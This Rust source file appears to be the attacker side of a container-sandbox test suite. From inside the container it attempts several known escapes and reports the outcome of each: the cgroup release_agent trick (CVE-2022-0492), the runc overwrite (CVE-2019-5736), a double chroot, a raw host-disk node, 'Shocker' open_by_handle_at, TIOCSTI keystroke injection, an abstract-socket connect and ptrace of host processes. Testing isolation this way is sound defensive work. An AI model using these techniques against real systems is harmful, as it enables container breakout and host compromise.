//! What runs inside the container: this very test program, as the attacker. Each
//! attack says what came of it, a line for each attempt: its name, and `ok` or the
//! errno. It never asserts; who sent it in does.

use std::ffi::{CString, OsStr};
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{FileTypeExt, MetadataExt, OpenOptionsExt};
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};

use nix::errno::Errno;
use nix::fcntl::{OFlag, open};
use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sched::{CloneFlags, unshare};
use nix::sys::stat::Mode;

/// The word that makes this program the attacker.
pub const WORD: &str = "--attack";

/// Carries out the attack that the words name.
pub fn attack(words: &[String]) {
    let word = |index: usize| words.get(index).map_or("", String::as_str);
    let number = |index: usize| word(index).parse().unwrap_or(0);
    match word(0) {
        "descriptors" => descriptors(&Path::new("/proc").join(word(1)).join("fd")),
        "calls" => super::calls::try_all(),
        "writable" => words[1..].iter().for_each(|top| writable(Path::new(top))),
        "open" => words[1..].iter().for_each(|path| say(path, opened(path, OFlag::O_WRONLY).map(drop))),
        "read" => words[1..].iter().for_each(|path| read(path)),
        "list" => words[1..].iter().for_each(|path| list(path)),
        "release" => release(),
        "write" => say(word(1), fs::write(word(1), word(2)).map_err(|error| errno(&error))),
        "overwrite" => overwrite(word(1)),
        "chroot" => chroot_twice(word(1)),
        "disk" => disk(number(1), number(2)),
        "handle" => by_handle(word(1)),
        "keys" => keys(),
        "connect" => connect(word(1)),
        "process" => process(i32::try_from(number(1)).unwrap_or(i32::MAX)),
        other => panic!("there is no attack '{other}'"),
    }
}

/// One line of the report.
pub fn say<T>(what: &str, outcome: Result<T, Errno>) {
    match outcome {
        Ok(_) => println!("{what}: ok"),
        Err(errno) => println!("{what}: {errno:?}"),
    }
}

fn errno(error: &std::io::Error) -> Errno {
    Errno::from_raw(error.raw_os_error().unwrap_or(libc::EIO))
}

fn opened(path: &str, flags: OFlag) -> Result<File, Errno> {
    open(path, flags | OFlag::O_CLOEXEC | OFlag::O_NONBLOCK, Mode::empty()).map(File::from)
}

/// Where each descriptor leads, and whether one can go up from there.
fn descriptors(directory: &Path) {
    let entries = match fs::read_dir(directory) {
        Ok(entries) => entries,
        Err(error) => return say("listing", Err::<(), _>(errno(&error))),
    };
    let numbers: Vec<PathBuf> = entries.flatten().map(|entry| entry.path()).collect();
    for number in numbers {
        let target = match fs::read_link(&number) {
            Ok(target) => target,
            // The one with which the directory was read is gone by now.
            Err(error) if errno(&error) == Errno::ENOENT => continue,
            Err(error) => return say("a link", Err::<(), _>(errno(&error))),
        };
        let kind = number.metadata().map_or("?", |found| match found.file_type() {
            kind if kind.is_dir() => "directory",
            kind if kind.is_file() => "file",
            kind if kind.is_char_device() => "device",
            kind if kind.is_fifo() => "pipe",
            _ => "other",
        });
        println!("{} {kind} {}", number.file_name().unwrap_or_default().display(), target.display());
    }
}

/// Every file beneath that can be opened for writing. None is written to.
fn writable(top: &Path) {
    let Ok(entries) = fs::read_dir(top) else { return };
    for entry in entries.flatten() {
        // What is a file in the directory may be a device: it may be covered.
        let path = entry.path();
        let Ok(found) = path.symlink_metadata() else { continue };
        // Root may open what nobody may write to; then there is nothing to write to.
        let (kind, meant) = (found.file_type(), found.mode() & 0o222 != 0);
        let own = |name: &OsStr| name.as_bytes()[0].is_ascii_digit() || name == "self" || name == "thread-self";
        if top == Path::new("/proc") && own(&entry.file_name()) {
            continue;
        }
        if kind.is_dir() {
            writable(&path);
        } else if kind.is_file() && meant && opened(&path.to_string_lossy(), OFlag::O_WRONLY).is_ok() {
            println!("{}", path.display());
        }
    }
}

/// What a file holds, if it can be read at all.
fn read(path: &str) {
    let mut bytes = vec![0; 4096];
    let read = opened(path, OFlag::O_RDONLY).and_then(|mut file| file.read(&mut bytes).map_err(|error| errno(&error)));
    match read {
        Ok(length) => println!("{path}: {length} bytes {}", String::from_utf8_lossy(&bytes[..length]).trim()),
        Err(errno) => println!("{path}: {errno:?}"),
    }
}

fn list(path: &str) {
    match fs::read_dir(path) {
        Ok(entries) => println!("{path}: {} entries", entries.count()),
        Err(error) => say(path, Err::<(), _>(errno(&error))),
    }
}

/// CVE-2022-0492: root of a user namespace mounts cgroups of its own, where the
/// program can be named that the kernel runs when one is empty.
fn release() {
    mount_cgroups();
    let flags = CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS | CloneFlags::CLONE_NEWCGROUP;
    let unshared = unshare(flags);
    say("unshare", unshared);
    if unshared.is_ok() {
        mount_cgroups();
    }
}

fn mount_cgroups() {
    let place = "/tmp/cgroups";
    let _ = fs::create_dir_all(place);
    let v1 = ["memory", "cpu", "cpuset", "pids", "devices", "freezer", "blkio", "rdma", "misc", "none,name=evil"];
    let kinds = v1.map(|options| ("cgroup", Some(options))).into_iter().chain([("cgroup2", None)]);
    for (kind, options) in kinds {
        let mounted = mount(Some("cgroup"), place, Some(kind), MsFlags::empty(), options);
        say(&format!("mount {kind} {}", options.unwrap_or_default()), mounted);
        if mounted.is_ok() {
            say(
                "release_agent",
                fs::write(format!("{place}/release_agent"), "/escaped").map_err(|error| errno(&error)),
            );
            let _ = umount2(place, MntFlags::MNT_DETACH);
        }
    }
}

/// CVE-2019-5736: a handle that can only be read, opened again and again for writing.
fn overwrite(path: &str) {
    let handle = open(path, OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty());
    say("handle", handle.as_ref().map_err(|errno| *errno));
    say("reading", opened(path, OFlag::O_RDONLY));
    say("writing", opened(path, OFlag::O_WRONLY));
    let Ok(handle) = handle else { return };
    let again = format!("/proc/self/fd/{}", handle.as_raw_fd());
    let mut last = Errno::UnknownErrno;
    for _ in 0..2000 {
        match OpenOptions::new().write(true).truncate(true).open(&again) {
            Ok(mut file) => {
                file.write_all(b"#!/bin/sh\necho overwritten\n").expect("what is open can be written to");
                return println!("writing by the handle: ok");
            }
            Err(error) => last = errno(&error),
        }
    }
    say("writing by the handle", Err::<(), _>(last));
}

/// Root leaves a chroot by a second one: from a root that lies beneath the working
/// directory, `..` is not stopped.
fn chroot_twice(wanted: &str) {
    let deeper = "/tmp/deeper";
    let _ = fs::create_dir_all(deeper);
    let above = open("/", OFlag::O_RDONLY | OFlag::O_DIRECTORY, Mode::empty()).expect("the root can be opened");
    say("chroot", nix::unistd::chroot(deeper));
    say("fchdir", nix::unistd::fchdir(&above));
    for _ in 0..64 {
        let _ = nix::unistd::chdir("..");
    }
    say("chroot again", nix::unistd::chroot("."));
    read(wanted);
}

/// A node for the host's disk, and the disk by it.
fn disk(major: u64, minor: u64) {
    let device = nix::sys::stat::makedev(major, minor);
    let made =
        nix::sys::stat::mknod("/tmp/disk", nix::sys::stat::SFlag::S_IFBLK, Mode::S_IRUSR | Mode::S_IWUSR, device);
    say("mknod", made);
    say("reading", opened("/tmp/disk", OFlag::O_RDONLY));
    say("writing", opened("/tmp/disk", OFlag::O_WRONLY));
}

/// "Shocker": a file of the same filesystem as /etc/hosts, which is one of the host's,
/// by its handle. The handle is given here; the real attack guesses it.
fn by_handle(handle: &str) {
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        data: [u8; 128],
    }
    let (kind, data) = handle.split_once(':').unwrap_or(("0", ""));
    let data: Vec<u8> =
        (0..data.len() / 2).filter_map(|at| u8::from_str_radix(&data[2 * at..2 * at + 2], 16).ok()).collect();
    let mut wanted =
        Handle { bytes: u32::try_from(data.len()).unwrap_or(0), kind: kind.parse().unwrap_or(0), data: [0; 128] };
    wanted.data[..data.len()].copy_from_slice(&data);
    let mount = File::open("/etc/hosts").expect("every container has /etc/hosts");
    // SAFETY: the handle says how long it is, and outlives the call.
    let opened =
        unsafe { libc::syscall(libc::SYS_open_by_handle_at, mount.as_raw_fd(), &raw mut wanted, libc::O_RDONLY) };
    let opened = Errno::result(opened);
    say("open_by_handle_at", opened);
    if let Ok(number) = opened {
        read(&format!("/proc/self/fd/{number}"));
    }
}

/// Keys pressed on the terminal that standard input leads to, as if by the user.
fn keys() {
    let attempt = |name: &str, request: libc::Ioctl, argument: *const u8| {
        // SAFETY: TIOCSTI reads one byte there; TIOCSCTTY takes it as a number.
        say(name, Errno::result(unsafe { libc::ioctl(0, request, argument) }));
    };
    say("/dev/tty", opened("/dev/tty", OFlag::O_RDWR));
    attempt("TIOCSTI", libc::TIOCSTI, b"x".as_ptr());
    attempt("TIOCSCTTY", libc::TIOCSCTTY, std::ptr::null());
    attempt("TIOCSCTTY by force", libc::TIOCSCTTY, std::ptr::without_provenance(1));
    attempt("TIOCSTI again", libc::TIOCSTI, b"x".as_ptr());
}

/// An abstract socket belongs to a network namespace, not to a directory. CVE-2020-15257
fn connect(name: &str) {
    use std::os::linux::net::SocketAddrExt;
    let address = std::os::unix::net::SocketAddr::from_abstract_name(name).expect("a short name");
    say("connect", UnixStream::connect_addr(&address).map_err(|error| errno(&error)));
}

/// A process of the host's, by the number that it has there.
fn process(pid: i32) {
    let target = nix::unistd::Pid::from_raw(pid);
    say("kill", nix::sys::signal::kill(target, None));
    // SAFETY: PTRACE_SEIZE takes plain numbers.
    say("ptrace", Errno::result(unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) }));
    // SAFETY: takes plain numbers.
    let pidfd = Errno::result(unsafe { libc::syscall(libc::SYS_pidfd_open, pid, 0) });
    say("pidfd_open", pidfd);
    for name in ["root", "cwd", "exe", "fd/0", "environ", "ns/mnt"] {
        let path = CString::new(format!("/proc/{pid}/{name}")).expect("no NUL");
        say(name, opened(&path.to_string_lossy(), OFlag::O_RDONLY));
    }
}

/// For a file that no other program may have open: a copy of its own.
pub fn copy_of(program: &Path, directory: &Path) -> PathBuf {
    let copy = directory.join("boxlab");
    let mut file = OpenOptions::new().write(true).create_new(true).mode(0o755).open(&copy).expect("a new file");
    std::io::copy(&mut File::open(program).expect("the program"), &mut file).expect("a copy");
    copy
}
